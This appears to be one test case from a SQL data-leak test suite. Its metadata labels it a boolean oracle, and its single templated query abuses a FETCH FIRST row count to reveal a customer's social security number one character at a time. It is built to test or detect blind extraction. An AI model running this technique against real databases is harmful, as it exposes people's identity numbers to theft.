-- id: leak-942
-- class: oracle
-- technique: the number of rows to fetch
-- expect: EITHER
-- targets: customers.ssn
-- recognize: boolean oracle: the runner recovers the value from yes/no answers only
-- mutates: no
-- oracle: from=customers where="id = 7" col=ssn method=gt truth=rows

SELECT id FROM departments FETCH FIRST (SELECT CASE WHEN ascii(substr(ssn, {pos}, 1)) > {code} THEN 1 ELSE 0 END FROM customers WHERE id = 7) ROWS ONLY;
